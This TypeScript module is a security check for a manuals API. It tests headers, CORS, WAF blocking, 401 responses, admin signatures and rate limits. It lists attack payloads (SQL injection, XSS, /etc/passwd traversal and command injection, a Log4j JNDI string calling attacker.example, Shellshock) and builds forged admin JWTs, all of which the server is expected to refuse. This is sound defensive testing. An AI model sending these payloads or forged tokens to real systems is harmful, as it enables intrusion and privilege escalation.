import { createHmac, randomBytes } from 'node:crypto';
import type { SendOptions } from './check-http.js';
import { serverKeyCredentials } from './check-http.js';
import type { CheckRun, CheckUser, Criterion } from './check-types.js';
import { row } from './check-types.js';
import { fillPath } from './openapi-check.js';

/** A few classic payloads per family: each must be refused 403 by the WAF. */
export const ATTACKS: { family: string; payload: string }[] = [
  { family: 'sqli', payload: "' OR '1'='1" },
  { family: 'sqli', payload: '1 UNION SELECT password FROM users--' },
  { family: 'xss', payload: '<script>alert(1)</script>' },
  { family: 'path_traversal', payload: '../../../../etc/passwd' },
  { family: 'command_injection', payload: '; cat /etc/passwd' },
  { family: 'log4j', payload: '${jndi:ldap://attacker.example/a}' },
  { family: 'shellshock', payload: '() { :; }; /bin/bash -c id' },
];

/** Technical questions that look a little like attacks and must not be blocked. */
export const LEGITIMATE = [
  'How do I select the input source on the amplifier?',
  'Should I drop the old key and update the set before pairing?',
  'Where is /etc/fstab and how do I add a USB disk to it?',
  'Can I chain the commands like a && b in the startup script?',
  'What happens if I type <device> instead of the real device name?',
  'How do I forward port 8080 to 192.168.1.50:80?',
];

const FOREIGN_ORIGIN = 'https://manuel-check.attacker.example';
const b64url = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');

/** Tokens a server must refuse: signed with a key it never had, `alg: none`, and a real token with an edited payload. */
export function forgedTokens(user: CheckUser): Record<string, string> {
  const now = Math.floor(Date.now() / 1000);
  const claims = { sub: user.id, email: user.email, is_admin: true, 'cognito:groups': ['admin'], token_use: 'access', iat: now, exp: now + 3600 };
  const unsigned = `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url(claims)}`;
  const [h, , sig] = user.token.split('.');
  return {
    'wrong key': `${unsigned}.${createHmac('sha256', randomBytes(32)).update(unsigned).digest('base64url')}`,
    'alg none': `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.`,
    'edited payload': `${h}.${b64url(claims)}.${sig}`,
  };
}

export interface SecurityInput {
  userA: CheckUser;
  manualId?: string;
  admin?: SendOptions;
}

export async function runSecurity(run: CheckRun, input: SecurityInput): Promise<Criterion[]> {
  const minimal = run.options.profile === 'minimal';
  run.note('security: headers, CORS, WAF, 401 on every protected route, signatures, rate limiting');
  const rows: Criterion[] = [];
  rows.push(await headersAndCors(run, input.userA));
  rows.push(await waf(run, input, minimal));
  rows.push(await unauthorized(run, input));
  rows.push(await rateLimiting(run, input.userA, minimal));
  return rows;
}

async function headersAndCors(run: CheckRun, user: CheckUser): Promise<Criterion> {
  const problems: string[] = [];
  const https = run.options.url.startsWith('https:');
  const samples = [await run.http.send('GET', '/api/manuals', { token: user.token }), await run.http.send('GET', '/api/manuals/manuel-check-missing', { token: user.token })];
  for (const res of samples) {
    const h = res.headers;
    if (h.get('x-content-type-options') !== 'nosniff') problems.push(`${res.status}: no X-Content-Type-Options nosniff`);
    if (!h.get('x-frame-options') && !/frame-ancestors/.test(h.get('content-security-policy') ?? '')) problems.push(`${res.status}: no X-Frame-Options / frame-ancestors`);
    if (!h.get('referrer-policy')) problems.push(`${res.status}: no Referrer-Policy`);
    if (https && !h.get('strict-transport-security')) problems.push(`${res.status}: no Strict-Transport-Security over https`);
  }
  const preflight = await run.http.send('OPTIONS', '/api/manuals', { headers: { origin: FOREIGN_ORIGIN, 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' } });
  const simple = await run.http.send('GET', '/api/manuals', { token: user.token, headers: { origin: FOREIGN_ORIGIN } });
  for (const [what, res] of [['preflight', preflight], ['GET', simple]] as const) {
    const allowed = res.headers.get('access-control-allow-origin');
    if (allowed === '*' || allowed === FOREIGN_ORIGIN) problems.push(`CORS ${what} allows ${FOREIGN_ORIGIN} (${allowed})`);
  }
  return problems.length === 0
    ? row('headers', 'Security headers and CORS', 'pass', `${samples.length} responses + 2 CORS probes ok`, `nosniff, frame denial, Referrer-Policy${https ? ', HSTS' : ''}; a foreign origin is not allowed`)
    : row('headers', 'Security headers and CORS', 'fail', `${problems.length} problems`, problems.slice(0, 3).join('; '));
}

async function waf(run: CheckRun, input: SecurityInput, minimal: boolean): Promise<Criterion> {
  const token = input.userA.token;
  const missed: string[] = [];
  let blocked = 0;
  let sent = 0;
  for (const a of ATTACKS) {
    // Where the WAF reads every rule: the query string, a JSON field, the login e-mail (a question is judged by gentler rules).
    for (const res of [
      await run.http.send('GET', `/api/manuals?filter=${encodeURIComponent(a.payload)}`, { token }),
      await run.http.send('POST', '/api/manuals/download', { token, json: { url: 'https://example.com/manual.pdf', filename: a.payload } }),
      await run.http.send('POST', '/api/auth/login', { json: { email: a.payload, password: 'x' } }),
    ]) {
      sent++;
      if (res.status === 403) blocked++;
      else missed.push(`${a.family} → ${res.status || res.failure}`);
    }
  }
  const falsePositives: string[] = [];
  for (const question of LEGITIMATE) {
    const res = await run.http.send('POST', '/api/query', { token, json: { question, ...(input.manualId ? { manual_ids: [input.manualId] } : {}) }, timeoutMs: 60_000 });
    if (res.status === 403) falsePositives.push(`"${question}"`);
  }
  const measured = `${blocked}/${sent} attacks blocked · ${LEGITIMATE.length - falsePositives.length}/${LEGITIMATE.length} legitimate passed`;
  if (minimal) return row('waf', 'WAF blocking malicious requests', 'n/a', measured, 'minimal profile: EnableWAF is off');
  const ok = blocked === sent && falsePositives.length === 0;
  const reason = ok
    ? `${new Set(ATTACKS.map((a) => a.family)).size} attack families in a query string, a JSON field and the login e-mail got 403; SQL words and paths in real questions did not`
    : [...missed.slice(0, 3).map((m) => `not blocked: ${m}`), ...falsePositives.slice(0, 2).map((q) => `blocked: ${q}`)].join('; ');
  return row('waf', 'WAF blocking malicious requests', ok ? 'pass' : 'fail', measured, reason);
}

async function unauthorized(run: CheckRun, input: SecurityInput): Promise<Criterion> {
  const routes = run.doc.protectedRoutes();
  const forged = forgedTokens(input.userA);
  const leaks: string[] = [];
  let probes = 0;
  const stranger = { keyId: `manuel-check-${randomBytes(4).toString('hex')}`, secret: randomBytes(24).toString('hex') };
  for (const r of routes) {
    if (run.stopping()) break;
    const path = fillPath(r.path, 'manuel-check-probe');
    const body = r.method === 'GET' || r.method === 'DELETE' ? {} : { json: {} };
    const variants: [string, SendOptions][] = [
      ['no credentials', body],
      ...Object.entries(forged).map(([k, token]) => [k, { ...body, token }] as [string, SendOptions]),
      ['signature by an unknown key', { ...body, sign: stranger }],
    ];
    for (const [what, o] of variants) {
      const res = await run.http.send(r.method, path, o);
      probes++;
      if (res.status !== 401) leaks.push(`${r.method} ${r.path} with ${what} → ${res.status || res.failure}`);
    }
  }
  const sig = await signatureEnforcement(run, input);
  if (sig.leak) leaks.push(sig.leak);
  const measured = `${probes - leaks.length}/${probes} refused 401 on ${routes.length} routes`;
  if (leaks.length > 0) return row('unauthorized', 'No unauthorized access', 'fail', measured, leaks.slice(0, 3).join('; '));
  return row('unauthorized', 'No unauthorized access', 'pass', measured, `no credentials, forged JWTs (wrong key, alg none, edited payload), unknown signature; ${sig.note}`);
}

/** Admin routes with a server key configured must refuse an admin token without its signature. */
async function signatureEnforcement(run: CheckRun, input: SecurityInput): Promise<{ note: string; leak?: string }> {
  if (!input.admin?.token) return { note: 'admin signatures not checked (no --admin-token)' };
  const unsigned = await run.http.send('GET', '/api/admin/dlq?limit=1', { token: input.admin.token });
  if (unsigned.status === 401) {
    const wrong = await run.http.send('GET', '/api/admin/dlq?limit=1', { token: input.admin.token, sign: serverKeyCredentials(randomBytes(24).toString('hex')) });
    if (wrong.status !== 401) return { note: '', leak: `admin route with a wrong server-key signature → ${wrong.status}` };
    if (!run.options.signingKey) return { note: 'admin routes refuse an admin token without a server-key signature' };
    const signed = await run.http.send('GET', '/api/admin/dlq?limit=1', { token: input.admin.token, sign: serverKeyCredentials(run.options.signingKey) });
    return signed.status === 401
      ? { note: '', leak: `admin route refused the --signing-key signature too (${signed.json?.error ?? ''})` }
      : { note: 'admin routes need a server-key signature (unsigned and wrongly signed refused, --signing-key accepted)' };
  }
  return { note: `admin routes take an admin token without a signature (HMACSigningKey not set, or EnableAdvancedSecurity off): ${unsigned.status}` };
}

/** `"user";q=100;w=60` entries of RateLimit-Policy. */
export function parsePolicies(header: string | null): { name: string; q: number; w: number }[] {
  if (!header) return [];
  return header.split(',').flatMap((part) => {
    const m = /"([^"]+)";q=(\d+);w=(\d+)/.exec(part);
    return m ? [{ name: m[1]!, q: Number(m[2]), w: Number(m[3]) }] : [];
  });
}

/** The most requests the check sends to prove the limit; a larger limit is reported, not driven. */
export const RATE_LIMIT_PROBE_CAP = 2000;

async function rateLimiting(run: CheckRun, user: CheckUser, minimal: boolean): Promise<Criterion> {
  const name = 'Effective rate limiting';
  const first = await run.http.send('GET', '/api/limits', { token: user.token });
  const policies = parsePolicies(first.headers.get('ratelimit-policy'));
  if (policies.length === 0) {
    return minimal
      ? row('ratelimit', name, 'n/a', 'no RateLimit headers', 'minimal profile: EnableAdvancedSecurity (rate limits) is off')
      : row('ratelimit', name, 'fail', 'no RateLimit headers', `GET /api/limits answered ${first.status} without RateLimit-Policy: rate limiting is off`);
  }
  const limit = Math.min(...policies.map((p) => p.q));
  const policyText = policies.map((p) => `${p.name} ${p.q}/${p.w}s`).join(', ');
  if (limit > RATE_LIMIT_PROBE_CAP) return row('ratelimit', name, 'fail', policyText, `limit above the ${RATE_LIMIT_PROBE_CAP} requests the check will send to prove it`);
  // Start on a fresh window, so the count to the first 429 is the limit itself.
  const wait = Math.max(0, ...[...(first.headers.get('ratelimit') ?? '').matchAll(/;t=(\d+)/g)].map((m) => Number(m[1])));
  if (wait > 0 && wait <= 120) await new Promise((r) => setTimeout(r, wait * 1000 + 100));
  // Enough in flight that the probe fits in one window even on a slow link or a busy server.
  const concurrency = 16;
  const windowS = Math.min(...policies.map((p) => p.w));
  const started = Date.now();
  let sent = 0;
  let ok = 0;
  let firstRefusal: number | null = null;
  const bad: string[] = [];
  const worker = async () => {
    while (firstRefusal === null && sent < limit + 20 && !run.stopping()) {
      const n = ++sent;
      const res = await run.http.send('GET', '/api/limits', { token: user.token, rateLimitWaitMs: 0 });
      if (res.status === 200) {
        ok++;
        if (!res.headers.get('ratelimit')) bad.push('a 200 without a RateLimit header');
      } else if (res.status === 429) {
        firstRefusal ??= n;
        if (res.json?.error_type !== 'rate_limited') bad.push(`429 error_type ${res.json?.error_type}`);
        if (!res.headers.get('retry-after')) bad.push('429 without Retry-After');
        if (!res.headers.get('ratelimit')) bad.push('429 without RateLimit');
      } else bad.push(`HTTP ${res.status || res.failure}`);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  const tookS = (Date.now() - started) / 1000;
  const measured = firstRefusal === null ? `no 429 after ${sent} requests (${policyText})` : `429 at request ${firstRefusal}, ${ok} answered (${policyText})`;
  // The window may have begun a little before the probe (the check's own earlier requests), never after.
  const hint = ' (several server processes, each counting on its own without a shared store?)';
  if (firstRefusal === null && tookS > windowS) {
    return row('ratelimit', name, 'fail', measured, `inconclusive: the probe took ${tookS.toFixed(1)} s, longer than the ${windowS} s window, so no window saw ${limit} requests`);
  }
  if (firstRefusal === null) return row('ratelimit', name, 'fail', measured, `the limit was never enforced${hint}`);
  if (ok > limit) return row('ratelimit', name, 'fail', measured, `${ok} answered, more than the limit of ${limit}${hint}`);
  if (bad.length > 0) return row('ratelimit', name, 'fail', measured, [...new Set(bad)].slice(0, 3).join('; '));
  return row('ratelimit', name, 'pass', measured, '429 rate_limited with Retry-After and RateLimit headers once past the limit');
}
